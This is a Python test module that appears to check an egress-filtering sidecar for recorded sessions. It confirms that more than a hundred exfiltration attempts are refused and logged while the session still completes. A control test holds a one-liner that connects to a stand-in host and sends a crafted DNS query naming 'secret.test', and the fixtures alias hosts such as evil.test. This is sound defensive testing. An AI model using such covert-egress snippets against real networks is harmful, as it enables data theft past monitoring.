"""Over a hundred attempts to get out of a real session: nothing arrives, and each has its line.

The sidecar looks names up at a resolver of the test, which also answers to every name that is
attacked; only the provider's own name may ever be asked for there.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from recorder.audit.logs import read_logs
from recorder.audit.statement import statement
from recorder.batch.batch import image_id
from recorder.engine.client import Engine
from recorder.engine.connect import docker_host
from recorder.session.leftovers import DRIVER_LABEL, driver_identity
from recorder.session.upstream import PROVIDER_HOST, rehearsal_network
from tests.proxy.construction import Lines, running
from tests.session.attacks import Attempt, attempts
from tests.session.stage import Scene, Stage, Take, bash, replaced, script_of, text, turn

UDP = 17
RUN = "python3 -I attempts.py attempts.json results.json"


@dataclass
class Sink:
    """The container that owns the attacked names, and the resolver of the sidecar."""

    lines: Lines
    address: str

    def resolve_for(self, engine: Engine, session: str) -> None:
        """From here on the session's sidecar asks this resolver, and no other."""
        role = {"label": ["recorder.role=sidecar", f"recorder.session={session}"]}
        (sidecar,) = engine.api.containers(filters=role)
        command = ["sh", "-c", f"echo nameserver {self.address} > /etc/resolv.conf"]
        made = engine.api.exec_create(sidecar["Id"], command, user="0")
        said = engine.api.exec_start(made["Id"])
        assert engine.api.exec_inspect(made["Id"])["ExitCode"] == 0, said

    def seen(self) -> list[dict[str, Any]]:
        found = []
        while (line := self.lines.next(0.3)) is not None:
            found.append(line)
        return found


@dataclass(frozen=True)
class Attacked:
    """The recorded session, what it tried, and what the sink saw of it."""

    take: Take
    tried: tuple[Attempt, ...]
    results: tuple[Mapping[str, Any], ...]
    arrived: tuple[Mapping[str, Any], ...]
    lines: Mapping[str, tuple[Mapping[str, Any], ...]]


@pytest.fixture(scope="module")
def attacked(
    tmp_path_factory: pytest.TempPathFactory, project: Path, engine: Engine
) -> Iterator[Attacked]:
    directory = tmp_path_factory.mktemp("attacks")
    turns = (turn(bash(RUN, timeout=400_000)), turn(text("done")))
    inside = project / "tests/session/inside"
    labels = {DRIVER_LABEL: driver_identity()}
    name = f"recorder-{os.getpid()}-attacks"
    script = script_of({"attacked": Scene(turns)})
    with (
        rehearsal_network(engine, name, labels, image_id(engine, "recorder"), script) as upstream,
        running(engine, f"{name}-sink", _sink(engine, inside, upstream.network)) as lines,
    ):
        ready = lines.next()
        assert ready is not None, bytes(lines.errors)
        sink = Sink(lines, ready["address"])
        tried = attempts(sink.address)
        scene = Scene(
            turns,
            files={
                "attempts.py": (inside / "attempts.py").read_bytes(),
                "attempts.json": json.dumps([each.told for each in tried]),
            },
            order=replaced(timeout=450.0),
            watch=lambda engine, container: sink.resolve_for(
                engine, engine.inspect(container)["Config"]["Labels"]["recorder.session"]
            ),
        )
        stage = Stage(docker_host(), upstream, directory, {"attacked": scene})
        try:
            take = stage.take("attacked").whole()
        finally:
            stage.close()
        results = tuple(json.loads(take.produced("results.json")))
        yield Attacked(take, tried, results, tuple(sink.seen()), _assigned(take, results))


def _sink(engine: Engine, inside: Path, network: str) -> dict[str, Any]:
    return {
        "Image": image_id(engine, "proxy"),
        "Entrypoint": ["/usr/bin/python3", "-I", "-c", (inside / "sink.py").read_text()],
        "User": "0:0",
        "AttachStdin": True,
        "AttachStdout": True,
        "AttachStderr": True,
        "OpenStdin": True,
        "StdinOnce": True,
        "Labels": {"recorder.role": "check"},
        "HostConfig": {
            "LogConfig": {"Type": "none", "Config": {}},
            "NetworkMode": network,
        },
        "NetworkingConfig": {
            "EndpointsConfig": {
                network: {"Aliases": ["sink.test", "evil.test", "canary.invalid", "localhost.test"]}
            }
        },
    }


def _assigned(
    take: Take, results: tuple[Mapping[str, Any], ...]
) -> dict[str, tuple[Mapping[str, Any], ...]]:
    """The decisions of the time of each attempt; "" holds those before and after them."""
    found: dict[str, list[Mapping[str, Any]]] = {"": []}
    for line in take.egress:
        if line["kind"] == "decision":
            at = datetime.fromisoformat(line["time"]).timestamp() + 0.001
            names = [each["name"] for each in results if each["begun"] <= at < each["ended"]]
            found.setdefault(names[0] if names else "", []).append(line)
    return {name: tuple(lines) for name, lines in found.items()}


def test_every_attempt_was_made(attacked: Attacked) -> None:
    assert len(attacked.tried) >= 140
    assert [each["name"] for each in attacked.results] == [each.name for each in attacked.tried]


def test_nothing_arrives(attacked: Attacked) -> None:
    packets = [line for line in attacked.arrived if "packet" in line]
    # Only the sidecar's question after the provider is ever addressed to the sink.
    assert {(line["packet"], line["to"]) for line in packets} <= {(UDP, 53)}
    assert [line for line in attacked.arrived if "accepted" in line or "bytes" in line] == []


def test_no_name_is_looked_up_but_the_providers(attacked: Attacked) -> None:
    looked_up = {line["looked_up"] for line in attacked.arrived if "looked_up" in line}
    assert looked_up == {PROVIDER_HOST}


def test_each_attempt_that_met_the_sidecar_has_exactly_its_line(attacked: Attacked) -> None:
    wrong = {}
    for each, result in zip(attacked.tried, attacked.results, strict=True):
        lines = attacked.lines.get(each.name, ())
        if tuple(line["rule"] for line in lines) != each.rules:
            wrong[each.name] = ([line["rule"] for line in lines], each.rules, result)
    assert not wrong, "\n".join(f"{name}: {what}" for name, what in wrong.items())


def test_nothing_of_an_attempt_was_allowed_and_the_session_still_recorded(
    attacked: Attacked,
) -> None:
    tried = [line for name, lines in attacked.lines.items() if name for line in lines]
    assert {line["decision"] for line in tried} == {"refused"}
    usual = attacked.lines[""]
    assert [line["decision"] for line in usual if line["request"] is not None] == ["allowed"] * 2
    assert attacked.take.recorded.answer == "done"


def test_the_audit_of_the_session_says_in_one_line_what_left(attacked: Attacked) -> None:
    logs = read_logs(attacked.take.directory)
    assert logs.faults == logs.unproven == ()
    met = sum(len(each.rules) for each in attacked.tried)
    refused = met + sum(line["decision"] == "refused" for line in attacked.lines[""])
    assert statement(logs) == (
        f"2 requests of 1 session reached {PROVIDER_HOST} (in a rehearsal: a script in its place); "
        f"{refused} were refused; nothing else left."
    )


def test_no_attempt_past_the_proxy_got_an_answer(attacked: Attacked) -> None:
    for each, result in zip(attacked.tried, attacked.results, strict=True):
        if not each.rules:
            assert result.get("code", 1) != 0 or result.get("error") or _harmless(each), result


def _harmless(attempt: Attempt) -> bool:
    """Tools that report success whatever came of a datagram, or of a name that nobody knows."""
    return attempt.name in {"nc, datagrams", "python, frames", "openssl, datagrams"}


def test_the_sink_would_have_seen_it(engine: Engine, project: Path) -> None:
    """A container that is not confined reaches it by the same means: the silence says something."""
    inside = project / "tests/session/inside"
    name = f"recorder-{os.getpid()}-attacks-control"
    labels = {DRIVER_LABEL: driver_identity()}
    script = script_of({"x": Scene((turn(text("done")),))})
    try_all = (
        "import socket;"
        "a=socket.gethostbyname('sink.test');"
        "c=socket.create_connection((a,443),3);c.sendall(b'x');"
        "u=socket.socket(2,2);"
        "q='123401000001000000000000'+'06736563726574'+'0474657374'+'0000010001';"
        "u.sendto(bytes.fromhex(q),(a,53));"
        "u.settimeout(3);u.recv(999)"
    )
    with (
        rehearsal_network(engine, name, labels, image_id(engine, "recorder"), script) as upstream,
        running(engine, f"{name}-sink", _sink(engine, inside, upstream.network)) as lines,
    ):
        assert lines.next() is not None, bytes(lines.errors)
        loose = {
            "Image": image_id(engine, "session"),
            "Entrypoint": ["/usr/bin/python3", "-I", "-c", try_all],
            "User": "1000:1000",
            "Labels": {"recorder.role": "check"},
            "HostConfig": {"NetworkMode": upstream.network},
        }
        container = engine.create_container(f"{name}-loose", loose)
        try:
            engine.start(container)
            assert engine.wait(container, 20) == 0
        finally:
            engine.remove_container(container)
        seen = Sink(lines, "").seen()
    assert {"accepted": 443} in seen
    assert {"looked_up": "secret.test"} in seen
    assert {line["packet"] for line in seen if "packet" in line} == {6, UDP}
